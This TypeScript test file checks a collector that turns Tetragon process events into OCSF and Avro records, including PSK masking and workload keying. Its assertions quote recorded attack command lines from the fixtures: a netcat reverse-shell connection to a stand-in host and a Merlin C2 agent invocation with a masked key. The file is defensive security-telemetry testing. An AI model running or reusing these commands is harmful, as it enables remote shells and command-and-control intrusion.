import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import avro from 'avsc';
import { normalizeTetragonEvent, normalizeTetragonProcess, tetragonCollector } from './index.ts';
import { ocsfProblems, processActivityToOcsf, eventToOcsf } from '../../core/ocsf/index.ts';
import type { ProcessEvent } from '../../core/model/process-event.ts';
import { SluiceError } from '../../core/errors.ts';

const fixture = (f: string): Buffer => readFileSync(new URL(`../../../test/fixtures/tetragon/${f}`, import.meta.url));
const lines = (f: string): Array<Record<string, unknown>> => fixture(f).toString('utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
const procs = lines('security-observability-process.jsonl');
const selected = lines('security-observability-selected.jsonl');
const testdata = lines('testdata-events.jsonl');
const schema = avro.Type.forSchema(JSON.parse(readFileSync(new URL('../../../schemas/avro/process_event.v1.avsc', import.meta.url), 'utf8')) as avro.Schema);

function processEvents(name: string, config: Record<string, unknown> = {}): Array<{ key: string; event: ProcessEvent; position: string }> {
  const out: Array<{ key: string; event: ProcessEvent; position: string }> = [];
  for (const o of tetragonCollector(config).collect({ name, bytes: fixture(name) })) {
    assert.equal(o.kind, 'event', o.kind === 'dead_letter' ? o.reason : '');
    if (o.kind === 'event' && o.stream === 'process') out.push({ key: o.key, event: o.event, position: o.position });
  }
  return out;
}

test('process_exec of nc in the elasticsearch pod: process, parent, container, application and version, keyed like its flows', () => {
  const { key, event: e } = normalizeTetragonProcess(procs[6]!, 'process_exec');
  assert.equal(key, 'minikube/tenant-jobs/app/elasticsearch');
  assert.deepEqual([e.class_uid, e.activity_id, e.activity_name, e.type_uid, e.metadata.log_name], [1007, 1, 'Launch', 100701, 'process_exec']);
  assert.deepEqual(
    [e.process.binary, e.process.name, e.process.args, e.process.cwd, e.process.uid, e.process.pid, e.process.container_pid],
    ['/usr/bin/nc', 'nc', 'raiz3gjkgtfhkkc.not-reverse-shell.com 443', '/usr/share/elasticsearch/', 0, 38314, 192],
  );
  assert.equal(e.process.exec_id, 'bWluaWt1YmU6MzM0OTc2NzgxOTUzNTozODMxNA==');
  assert.deepEqual([e.parent?.binary, e.parent?.args, e.parent?.container_pid], ['/usr/bin/sh', 'lifecycle.sh', 190]);
  assert.deepEqual(e.container, {
    name: 'elasticsearch',
    uid: 'docker://e6af4dff4ea3b8d50313c59fbaa442e377da35671e79f43b8dc53c5efcc9b659',
    image: 'quay.io/isovalent/jobs-app-elasticsearch:latest',
    image_id: 'docker-pullable://quay.io/isovalent/jobs-app-elasticsearch@sha256:ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c',
  });
  // The same workload as the flows of that pod (pod.ts is shared): the nc connect of the same process.
  const flow = normalizeTetragonEvent(selected[3]);
  assert.equal(flow.key, key);
  assert.deepEqual(e.workload, flow.event!.src.workload);
  assert.equal(e.workload?.app_version, 'sha256:ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c');
  assert.equal(e.time, Date.parse('2022-02-01T18:01:56.411Z'));
  assert.ok(schema.isValid(e), 'fits the process_event Avro schema');
});

test('process_exit is a Terminate; exit status and signal when Tetragon sends them', () => {
  const { event: e } = normalizeTetragonProcess(procs[7]!, 'process_exit');
  assert.deepEqual([e.activity_id, e.activity_name, e.process.binary], [2, 'Terminate', '/usr/bin/nc']);
  assert.deepEqual(e.exit, { code: null, signal: null });
  const killed = structuredClone(procs[7]!) as { process_exit: Record<string, unknown> };
  killed.process_exit.signal = 'SIGKILL';
  killed.process_exit.status = 137;
  assert.deepEqual(normalizeTetragonProcess(killed, 'process_exit').event.exit, { code: 137, signal: 'SIGKILL' });
});

test('arguments are masked in the event and in raw_data (the real merlin agent command line carries a PSK)', () => {
  const agent = normalizeTetragonProcess(procs[15]!, 'process_exec');
  assert.equal(agent.key, 'minikube/-/reserved/host', 'a node process is keyed by its cluster');
  assert.equal(agent.event.workload, null);
  assert.equal(agent.event.process.args, '-v -url https://main.linux-libs.org:443 -proto h2 -psk ***');
  assert.ok(JSON.stringify(procs[15]).includes('SecurePSK'), 'the fixture does hold the secret');
  const sh = normalizeTetragonProcess(procs[26]!, 'process_exec').event;
  for (const text of [JSON.stringify(agent.event), JSON.stringify(sh), JSON.stringify(eventToOcsf(sh))]) assert.ok(!text.includes('SecurePSK'), 'no copy of the PSK leaves the collector');
  assert.equal(sh.parent?.args, '-v -url https://main.linux-libs.org:443 -proto h2 -psk ***');
  // The flows keep the masked record too.
  const connect = JSON.parse(readFileSync(new URL('../../../test/fixtures/tetragon/security-observability-selected.jsonl', import.meta.url), 'utf8').split('\n')[8]!) as unknown;
  assert.ok(!normalizeTetragonEvent(connect).event!.raw_data!.includes('SecurePSK'));
});

test('ancestors beyond the parent: binaries, parent\u2019s parent first, capped by maxAncestors', () => {
  const r = structuredClone(procs[6]!) as { process_exec: Record<string, unknown> };
  r.process_exec.ancestors = [{ binary: '/bin/bash', pid: 1 }, { binary: '/usr/bin/containerd-shim-runc-v2' }, { binary: '/usr/bin/containerd' }];
  const e = normalizeTetragonProcess(r, 'process_exec', { maxAncestors: 2 }).event;
  assert.deepEqual(e.ancestors, ['/bin/bash', '/usr/bin/containerd-shim-runc-v2']);
  assert.equal(JSON.parse(e.unmapped).ancestors_dropped, 1);
  const o = processActivityToOcsf(e);
  assert.deepEqual(
    (o.process as { ancestry: Array<{ path: string }> }).ancestry.map((a) => a.path),
    ['/usr/bin/sh', '/bin/bash', '/usr/bin/containerd-shim-runc-v2'],
    'OCSF ancestry starts with the direct parent',
  );
  assert.ok(schema.isValid(e));
});

test('every real process_exec and process_exit becomes a valid OCSF 1.8.0 Process Activity and a valid Avro record', () => {
  const all = [...processEvents('security-observability-process.jsonl'), ...processEvents('testdata-events.jsonl'), ...processEvents('security-observability-selected.jsonl')];
  assert.equal(all.length, 27 + 3 + 2);
  for (const { event, position } of all) {
    assert.deepEqual(ocsfProblems(processActivityToOcsf(event)), [], position);
    assert.ok(schema.isValid(event), position);
  }
  const launches = all.filter((x) => x.event.activity_id === 1).length;
  assert.equal(launches, 22);
  // Tetragon's own test data has an exec without a time: it happened when the process started.
  assert.equal(all[27]!.event.time, Date.parse('2022-10-18T03:16:18.273546829Z'));
  assert.equal(all[27]!.key, 'unknown/default/app/tiefighter');
  const o = processActivityToOcsf(all[28]!.event);
  assert.deepEqual([o.class_uid, o.activity_name, (o.process as { namespace_pid: number }).namespace_pid, (o.actor as { process: { file: { path: string } } }).process.file.path], [1007, 'Launch', 1, '/usr/bin/containerd-shim-runc-v2']);
});

test('bad process records are dead letters naming the field; processEvents false drops them', () => {
  const bad = [
    '{"process_exec":{"process":{"pid":1}},"time":"2022-02-01T18:01:56.419Z"}',
    '{"process_exit":{"process":{"binary":"/bin/sh"}}}',
    '{"process_exec":{"process":{"binary":"/bin/sh","pod":{"namespace":"x"}}},"time":"2022-02-01T18:01:56.419Z"}',
    '{"process_exec":{"process":{"binary":"/bin/sh","uid":-1}},"time":"2022-02-01T18:01:56.419Z"}',
  ];
  const outs = [...tetragonCollector().collect({ name: 'bad', bytes: Buffer.from(bad.join('\n')) })];
  const reasons = outs.map((o) => (o.kind === 'dead_letter' ? o.reason.replace(/^line \d+: /, '') : 'event'));
  assert.deepEqual(reasons.slice(0, 3), ['process_exec.process.binary is missing', 'process_exit without a time', 'process.pod.name is missing']);
  assert.match(reasons[3]!, /^process_exec\.process\.uid /);
  assert.throws(() => normalizeTetragonProcess({ process_connect: {} }, 'process_connect'), (e: unknown) => e instanceof SluiceError && e.code === 'SLUICE_ERR_INPUT_MALFORMED');
  assert.deepEqual(processEvents('security-observability-process.jsonl', { processEvents: false }), []);
});

test('processes are identified without pids: two pods of one application, other pids, share the key', () => {
  const a = normalizeTetragonProcess(procs[0]!, 'process_exec');
  const b = normalizeTetragonProcess(procs[6]!, 'process_exec');
  assert.notEqual(a.event.workload?.pod, b.event.workload?.pod);
  assert.notEqual(a.event.process.pid, b.event.process.pid);
  assert.equal(a.key, b.key);
  assert.equal(testdata.length, 3);
});

test('the process schema carries the same Workload record as the flow schema (one identity on both streams)', () => {
  const read = (f: string) => JSON.parse(readFileSync(new URL(`../../../schemas/avro/${f}`, import.meta.url), 'utf8')) as { fields: Array<{ name: string; type: unknown }> };
  const flowWorkload = (read('network_flow.v1.avsc').fields.find((f) => f.name === 'src')!.type as { fields: Array<{ name: string; type: unknown }> }).fields.find((f) => f.name === 'workload')!.type;
  const processWorkload = read('process_event.v1.avsc').fields.find((f) => f.name === 'workload')!.type;
  const names = (t: unknown): string[] => ((t as unknown[])[1] as { fields: Array<{ name: string }> }).fields.map((f) => f.name);
  assert.deepEqual(names(processWorkload), names(flowWorkload));
  const e = normalizeTetragonProcess(procs[6]!, 'process_exec').event;
  assert.deepEqual(Object.keys(e.workload!).sort(), names(processWorkload).sort(), 'every workload field of the model is in the schema');
  assert.ok(avro.Type.forSchema(read('process_event.v1.avsc') as avro.Schema).isValid(e, { noUndeclaredFields: true }), 'no field of the event is left out of the schema');
});
